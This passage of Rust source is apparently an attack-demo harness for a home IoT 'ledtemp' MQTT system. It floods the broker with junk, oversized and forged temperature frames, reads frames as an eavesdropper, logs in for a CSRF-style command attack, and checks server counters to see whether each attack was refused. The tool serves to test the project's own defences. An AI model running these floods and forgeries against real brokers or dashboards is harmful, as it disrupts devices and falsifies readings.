    }
    println!("command-csrf: {refused} of {} refused; the control asked for {state}", posts.len());
    Ok(json!({ "attack": "command-csrf", "attempts": attempts, "refused": refused }))
}

/// What `flood` sends.
struct Flood {
    junk: u32,
    oversize: u32,
    devices: u32,
    rate: u32,
}

impl Flood {
    async fn run(
        &self,
        broker: &(String, u16),
        api: &Api,
        before: &Observation,
        settle: Duration,
        wait: Duration,
    ) -> Result<Value> {
        let genuine: Vec<String> = before.device_ids();
        let target = genuine.first().cloned().unwrap_or_else(|| "kitchen-pi".to_owned());
        let mut messages = Vec::new();
        for i in 0..self.junk {
            // Version byte 0, then noise: not a frame, whatever the codec.
            let mut junk = random_bytes::<48>().to_vec();
            junk.truncate(1 + (i as usize % 47));
            if let Some(first) = junk.first_mut() {
                *first = 0;
            }
            messages.push((format!("ledtemp/{target}/status"), junk));
        }
        for _ in 0..self.oversize {
            messages.push((format!("ledtemp/{target}/temp/x"), vec![0x01; OVERSIZE_LEN]));
        }
        let plain = InsecurePlaintextCodec::new(KeyId(1));
        let reading = Message::Temperature(TemperatureReading {
            sensor: SensorName::new("t")?,
            temperature: MilliCelsius(FORGED_MILLI_CELSIUS),
            uptime: Uptime(0),
        });
        for i in 0..self.devices {
            let device = DeviceId::new(&format!("{FLOOD_PREFIX}{i:05}"))?;
            let topic = reading.topic(&device).to_topic_string().as_str().to_owned();
            messages.push((topic, seal(&plain, &device, SequenceNumber::new(0)?, &reading)?));
        }
        println!(
            "flood: {} junk payloads, {} of {OVERSIZE_LEN} B, {} frames of invented devices \
             ({FLOOD_PREFIX}00000...), at most {} per second",
            self.junk, self.oversize, self.devices, self.rate
        );
        let mut mqtt = Mqtt::connect(broker, "flood", None).await?;
        let started = std::time::Instant::now();
        let mut tick =
            tokio::time::interval(Duration::from_secs_f64(1.0 / f64::from(self.rate.max(1))));
        tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
        for (topic, payload) in &messages {
            tick.tick().await;
            mqtt.publish(topic, payload.clone()).await?;
        }
        mqtt.flush().await?;
        println!(
            "flood: {} messages published in {:.1} s",
            messages.len(),
            started.elapsed().as_secs_f64()
        );
        tokio::time::sleep(settle).await;
        let health = api.healthz().await?;
        println!("flood: GET /healthz -> {health}");
        // A genuine device whose last_seen moves on has had a frame accepted after the flood.
        let after_flood = Observation::take(api).await?;
        let deadline = tokio::time::Instant::now() + wait;
        let mut still_accepted = None;
        while tokio::time::Instant::now() < deadline {
            let now = Observation::take(api).await?;
            still_accepted = genuine.iter().find(|id| {
                !id.starts_with(FLOOD_PREFIX)
                    && now.last_seen(id).is_some()
                    && now.last_seen(id) != after_flood.last_seen(id)
            });
            if still_accepted.is_some() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(250)).await;
        }
        match still_accepted {
            Some(id) => println!("flood: genuine device {id} is still accepted after the flood"),
            None => println!(
                "flood: no genuine frame accepted within {} s after the flood",
                wait.as_secs()
            ),
        }
        Ok(json!({
            "attack": "flood",
            "sent": messages.len(),
            "healthz": health,
            "genuine_accepted_after": still_accepted.is_some(),
        }))
    }
}

// ---- reading frames as an eavesdropper ----

/// What an eavesdropper makes of one message.
enum Reading {
    /// Read in full.
    Plaintext(String),
    /// Only the clear-text header: sealed.
    Sealed { key_id: u8, sequence: u64 },
    /// Not a ledtemp frame at all.
    Unreadable(&'static str),
}

impl std::fmt::Display for Reading {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Reading::Plaintext(text) => write!(f, "PLAINTEXT: {text}"),
            Reading::Sealed { key_id, sequence } => {
                write!(f, "sealed: key id {key_id}, sequence {sequence}; content unreadable")
            }
            Reading::Unreadable(why) => write!(f, "unreadable: {why}"),
        }
    }
}

fn read_frame(topic: &str, payload: &[u8]) -> Reading {
    let Ok(parsed) = Topic::parse(topic) else { return Reading::Unreadable("not a ledtemp topic") };
    if let Ok(opened) = InsecurePlaintextCodec::new(KeyId(0)).open(&parsed, payload) {
        let sequence = opened.header.sequence.get();
        return Reading::Plaintext(format!("{} (sequence {sequence})", describe(&opened.message)));
    }
    match FrameHeader::parse(payload) {
        Ok(header) => Reading::Sealed { key_id: header.key_id.0, sequence: header.sequence.get() },
        Err(_) => Reading::Unreadable("not a frame"),
    }
}

fn describe(message: &Message) -> String {
    let state = |state: LedState| if state.is_on() { "ON" } else { "OFF" };
    match message {
        Message::Led(change) => format!("LED {} {}", change.led, state(change.state)),
        Message::Temperature(reading) => {
            format!("temperature {} = {:.3} °C", reading.sensor, reading.temperature.to_celsius())
        }
        Message::Status(report) => match &report.status {
            NodeStatus::Online { leds } => {
                let leds: Vec<String> =
                    leds.iter().map(|l| format!("{} {}", l.led, state(l.state))).collect();
                format!("online, LEDs: {}", leds.join(", "))
            }
            NodeStatus::Offline => "offline".to_owned(),
        },
        Message::Command(command) => {
            format!(
                "command: LED {} {} (session {})",
                command.led,
                state(command.state),
                command.session.get()
            )
        }
    }
}

fn seal(
    codec: &impl Codec,
    device: &DeviceId,
    sequence: SequenceNumber,
    message: &Message,
) -> Result<Vec<u8>> {
    let mut buf = [0u8; MAX_FRAME_LEN];
    let len = codec.seal(device, sequence, message, &mut buf)?;
    Ok(buf.get(..len).unwrap_or_default().to_vec())
}

/// Unpredictable enough for a guessed key and junk (this is an attack demo, not key generation).
fn random_bytes<const N: usize>() -> [u8; N] {
    let mut out = [0u8; N];
    for chunk in out.chunks_mut(8) {
        let mut hasher = std::collections::hash_map::RandomState::new().build_hasher();
        hasher.write_u128(
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(0, |d| d.as_nanos()),
        );
        let bytes = hasher.finish().to_le_bytes();
        chunk.copy_from_slice(bytes.get(..chunk.len()).unwrap_or_default());
    }
    out
}

const FORGED_C: f64 = FORGED_MILLI_CELSIUS as f64 / 1000.0;

// ---- MQTT ----

fn parse_broker(text: &str) -> Result<(String, u16)> {
    let (host, port) = text
        .rsplit_once(':')
        .ok_or_else(|| AttackError(format!("--broker {text:?}: expected HOST:PORT")))?;
    let port = port.parse().map_err(|_| AttackError(format!("--broker {text:?}: bad port")))?;
    Ok((host.trim_start_matches('[').trim_end_matches(']').to_owned(), port))
}

/// An MQTT v5 client that publishes raw bytes and hands over what it receives.
struct Mqtt {
    client: AsyncClient,
    received: mpsc::UnboundedReceiver<(String, Vec<u8>)>,
    task: tokio::task::JoinHandle<()>,
    /// Publishes handed to the client, and PUBACKs from the broker.
    published: usize,
    acked: Arc<AtomicUsize>,
}

impl Mqtt {
    /// Connects (and subscribes to `filter`); returns once the broker acknowledged.
    async fn connect(broker: &(String, u16), role: &str, filter: Option<&str>) -> Result<Mqtt> {
        Mqtt::connect_with(broker, role, filter, true).await
    }

    /// [`Mqtt::connect`], handing over only messages published from now on: none of the
    /// broker's retained ones.
    async fn connect_live(broker: &(String, u16), role: &str, filter: &str) -> Result<Mqtt> {
        Mqtt::connect_with(broker, role, Some(filter), false).await
    }

    async fn connect_with(
        broker: &(String, u16),
        role: &str,
        filter: Option<&str>,
        retained: bool,
    ) -> Result<Mqtt> {
        let id = format!("ledtemp-attack-{role}-{}", std::process::id());
        let mut options = MqttOptions::new(id, broker.0.clone(), broker.1);
        options.set_keep_alive(Duration::from_secs(15));
        let (client, mut events) = AsyncClient::new(options, 256);
        let (tx, received) = mpsc::unbounded_channel();
        let (ready_tx, ready) = tokio::sync::oneshot::channel::<Result<(), String>>();
        let subscriber = client.clone();
        let filter = filter.map(str::to_owned);
        let acked = Arc::new(AtomicUsize::new(0));
        let acks = Arc::clone(&acked);
        let task = tokio::spawn(async move {
            let mut ready_tx = Some(ready_tx);
            loop {
                match events.poll().await {
                    Ok(Event::Incoming(Packet::ConnAck(_))) => match &filter {
                        Some(filter) => {
                            let _ = subscriber.subscribe(filter.clone(), QoS::AtLeastOnce).await;
                        }
                        None => {
                            if let Some(ready) = ready_tx.take() {
                                let _ = ready.send(Ok(()));
                            }
                        }
                    },
                    Ok(Event::Incoming(Packet::SubAck(_))) => {
                        if let Some(ready) = ready_tx.take() {
                            let _ = ready.send(Ok(()));
                        }
                    }
                    Ok(Event::Incoming(Packet::Publish(publish)))
                        if retained || !publish.retain =>
                    {
                        let topic = String::from_utf8_lossy(&publish.topic).into_owned();
                        let _ = tx.send((topic, publish.payload.to_vec()));
                    }
                    Ok(Event::Incoming(Packet::PubAck(_))) => {
                        acks.fetch_add(1, Ordering::SeqCst);
                    }
                    Ok(_) => {}
                    Err(error) => {
                        if let Some(ready) = ready_tx.take() {
                            let _ = ready.send(Err(error.to_string()));
                            return;
                        }
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
        });
        match tokio::time::timeout(Duration::from_secs(10), ready).await {
            Ok(Ok(Ok(()))) => Ok(Mqtt { client, received, task, published: 0, acked }),
            Ok(Ok(Err(error))) => {
                Err(AttackError(format!("broker {}:{}: {error}", broker.0, broker.1)))
            }
            _ => Err(AttackError(format!("broker {}:{} did not answer", broker.0, broker.1))),
        }
    }

    async fn next(&mut self) -> Option<(String, Vec<u8>)> {
        self.received.recv().await
    }

    /// Hands one QoS 1 message to the client; [`Mqtt::flush`] waits until it reached the broker.
    async fn publish(&mut self, topic: &str, payload: Vec<u8>) -> Result<()> {
        self.client.publish(topic, QoS::AtLeastOnce, false, payload).await?;
        self.published += 1;
        Ok(())
    }

    /// Waits (at most 10 s) until the broker acknowledged every message published so far.
    async fn flush(&self) -> Result<()> {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        while self.acked.load(Ordering::SeqCst) < self.published {
            if tokio::time::Instant::now() >= deadline {
                return Err(AttackError("the broker did not acknowledge every message".into()));
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        Ok(())
    }
}

impl Drop for Mqtt {
    fn drop(&mut self) {
        self.task.abort();
    }
}

// ---- the server's view ----

struct Api {
    client: reqwest::Client,
    base: String,
    token: Option<String>,
    /// A login session (`command-csrf --password`): what a victim's browser holds.
    session: Option<Session>,
}

/// A dashboard login session.
struct Session {
    /// `name=value` of the session cookie.
    cookie: String,
    /// The session's CSRF token (what the dashboard's own script sends as `X-CSRF-Token`).
    csrf: String,
}

impl Api {
    fn new(base: &str, token: Option<String>) -> Result<Api> {
        let client = reqwest::Client::builder()
            .timeout(Duration::from_secs(10))
            .redirect(reqwest::redirect::Policy::none())
            .build()?;
        Ok(Api { client, base: base.trim_end_matches('/').to_owned(), token, session: None })
    }

    fn get(&self, path: &str) -> reqwest::RequestBuilder {
        let request = self.client.get(format!("{}{path}", self.base));
        match (&self.token, &self.session) {
            (Some(token), _) => request.bearer_auth(token),
            (None, Some(session)) => request.header("cookie", &session.cookie),
            (None, None) => request,
        }
    }

    /// Logs in as the dashboard's login page does (its double-submit token, then the password).
    async fn login(&mut self, password: &str) -> Result<()> {
        let response = self.client.get(format!("{}/auth/login-token", self.base)).send().await?;
        let login_cookie = first_cookie(response.headers())
            .ok_or_else(|| AttackError("GET /auth/login-token set no cookie".into()))?;
        let token: Value = response.json().await?;
        let response = self
            .client
            .post(format!("{}/auth/login", self.base))
            .header("origin", &self.base)
            .header("cookie", login_cookie)
            .json(&json!({ "password": password, "csrf": token["csrf"] }))
            .send()
            .await?;
        if !response.status().is_success() {
            return Err(AttackError(format!("login: {}", response.status())));
        }
        let cookie = first_cookie(response.headers())
            .ok_or_else(|| AttackError("the login set no session cookie".into()))?;
        let body: Value = response.json().await?;
        let csrf = body["csrf"].as_str().unwrap_or_default().to_owned();
        self.session = Some(Session { cookie, csrf });
        Ok(())
    }

    /// How many entries the command log holds for `device` (at most 500).
    async fn command_log_len(&self, device: &DeviceId) -> Result<usize> {
        let log = self.json(&format!("/api/commands?device={device}&limit=500")).await?;
        Ok(log.as_array().map_or(0, Vec::len))
    }

    async fn json(&self, path: &str) -> Result<Value> {
        let response = self.get(path).send().await?;
        let status = response.status();
        if !status.is_success() {
            return Err(AttackError(format!("GET {path}: {status} (a token needed? --token)")));
        }
        Ok(response.json().await?)
    }

    async fn healthz(&self) -> Result<u16> {
        Ok(self.get("/healthz").send().await?.status().as_u16())
    }
}

/// `name=value` of the first `Set-Cookie` that sets a value.
fn first_cookie(headers: &reqwest::header::HeaderMap) -> Option<String> {
    headers.get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()).find_map(|header| {
        let pair = header.split(';').next()?.trim();
        pair.split_once('=').filter(|(_, value)| !value.is_empty()).map(|_| pair.to_owned())
    })
}

/// The server's counters and devices at one moment.
struct Observation {
    stats: Value,
    devices: Value,
}

/// What changed between two observations.
struct Report {
    /// Counter increases: `accepted` and `rejected.<reason>`.
    delta: Value,
    rows: Vec<(String, u64, u64)>,
    /// Changes an attacker made to what the dashboard shows.
    changes: Vec<String>,
}

impl Observation {
    async fn take(api: &Api) -> Result<Observation> {
        Ok(Observation {
            stats: api.json("/api/stats").await?,
            devices: api.json("/api/devices").await?,
        })
    }

    fn insecure(&self) -> bool {
        self.stats["insecure_plaintext"].as_bool() == Some(true)
    }

    fn device_ids(&self) -> Vec<String> {
        self.devices
            .as_array()
            .map(|all| all.iter().filter_map(|d| d["id"].as_str().map(str::to_owned)).collect())
            .unwrap_or_default()
    }

    fn last_seen(&self, id: &str) -> Option<String> {
        self.device(id).and_then(|d| d["last_seen"].as_str().map(str::to_owned))
    }

    fn device(&self, id: &str) -> Option<&Value> {
        self.devices.as_array()?.iter().find(|d| d["id"].as_str() == Some(id))
    }

    /// Every LED shown: (device, LED) -> on.
    fn led_states(&self) -> BTreeMap<(String, String), bool> {
        let mut states = BTreeMap::new();
        for device in self.devices.as_array().into_iter().flatten() {
            let id = device["id"].as_str().unwrap_or_default();
            for led in device["leds"].as_array().into_iter().flatten() {
                let name = led["led"].as_str().unwrap_or_default();
                states.insert((id.to_owned(), name.to_owned()), led["on"].as_bool() == Some(true));
            }
        }
        states
    }

    /// `{"device/led": on}` of every LED shown.
    fn leds_json(&self) -> Value {
        let states: serde_json::Map<String, Value> = self
            .led_states()
            .into_iter()
            .map(|((device, led), on)| (format!("{device}/{led}"), json!(on)))
            .collect();
        Value::Object(states)
    }

    /// LEDs whose state changed, or that appeared, between two observations.
    fn led_changes(&self, after: &Observation) -> Vec<String> {
        let word = |on: bool| if on { "ON" } else { "OFF" };
        let old = self.led_states();
        after
            .led_states()
            .into_iter()
            .filter_map(|((device, led), on)| match old.get(&(device.clone(), led.clone())) {
                Some(&was) if was == on => None,
                Some(&was) => Some(format!("{device}/{led}: {} -> {}", word(was), word(on))),
                None => Some(format!("{device}/{led}: new, {}", word(on))),
            })
            .collect()
    }

    /// (device, "led"/"sensor", name) of everything shown.
    fn names(&self) -> BTreeSet<(String, &'static str, String)> {
        let mut names = BTreeSet::new();
        for device in self.devices.as_array().into_iter().flatten() {
            let id = device["id"].as_str().unwrap_or_default().to_owned();
            for (list, kind, field) in
                [("leds", "LED", "led"), ("temperatures", "sensor", "sensor")]
            {
                for item in device[list].as_array().into_iter().flatten() {
                    names.insert((
                        id.clone(),
                        kind,
                        item[field].as_str().unwrap_or_default().to_owned(),
                    ));
                }
            }
        }
        names
    }

    /// (device, sensor) of every reading that shows the forged temperature.
    fn forged_readings(&self) -> BTreeSet<(String, String)> {
        let mut forged = BTreeSet::new();
        for device in self.devices.as_array().into_iter().flatten() {
            for reading in device["temperatures"].as_array().into_iter().flatten() {
                let celsius = reading["celsius"].as_f64().unwrap_or(f64::NAN);
                if (celsius - FORGED_C).abs() < 0.0005 {
                    let id = device["id"].as_str().unwrap_or_default().to_owned();
                    forged.insert((id, reading["sensor"].as_str().unwrap_or_default().to_owned()));
                }
            }
        }
        forged
    }

    fn counters(&self) -> BTreeMap<String, u64> {
        let mut counters = BTreeMap::new();
        counters.insert("accepted".to_owned(), self.stats["accepted"].as_u64().unwrap_or(0));
        if let Some(rejected) = self.stats["rejected"].as_object() {
            for (reason, count) in rejected {
                counters.insert(format!("rejected.{reason}"), count.as_u64().unwrap_or(0));
            }
        }
        counters
    }

    fn compare(&self, after: &Observation) -> Report {
        let (old, new) = (self.counters(), after.counters());
        let rows: Vec<(String, u64, u64)> = new
            .iter()
            .map(|(name, &n)| (name.clone(), old.get(name).copied().unwrap_or(0), n))
            .collect();
        let delta: serde_json::Map<String, Value> =
            rows.iter().map(|(name, a, b)| (name.clone(), json!(b.saturating_sub(*a)))).collect();
        let mut changes = Vec::new();
        let known: BTreeSet<String> = self.device_ids().into_iter().collect();
        let added: Vec<String> =
            after.device_ids().into_iter().filter(|id| !known.contains(id)).collect();
        if !added.is_empty() {
            let shown: Vec<&str> = added.iter().take(5).map(String::as_str).collect();
            let more = if added.len() > 5 {
                format!(" and {} more", added.len() - 5)
            } else {
                String::new()
            };
            changes.push(format!("new devices ({}): {}{more}", added.len(), shown.join(", ")));
        }
        let old_names = self.names();
        let old_forged = self.forged_readings();
        for (id, sensor) in after.forged_readings().difference(&old_forged) {
            // New devices are reported above.
            if !known.contains(id) {
                continue;
            }
            changes.push(format!("{id}/{sensor} shows {FORGED_C:.3} °C, the forged value"));
        }
        for (device, kind, name) in after.names().difference(&old_names) {
            if known.contains(device) {
                changes.push(format!("new {kind} {name} on {device}"));
            }
        }
        Report { delta: Value::Object(delta), rows, changes }
    }
}

impl Report {
    fn print(&self, was_insecure: bool, is_insecure: bool) {
        if was_insecure || is_insecure {
            println!(
                "server: INSECURE PLAINTEXT MODE (no encryption, no authentication, no replay protection)"
            );
        }
        println!("server counters (GET /api/stats; the genuine nodes' frames count too):");
        for (name, before, after) in &self.rows {
            let change = after.saturating_sub(*before);
            let mark = if change > 0 { format!("+{change}") } else { String::new() };
            println!("  {name:<24} {before:>8} -> {after:>8}  {mark}");
        }
        if self.changes.is_empty() {
            println!("dashboard (GET /api/devices): nothing the attacker sent is shown");
        } else {
            println!("dashboard (GET /api/devices): CHANGED by the attacker:");
            for change in &self.changes {
                println!("  {change}");
            }
        }
    }
}
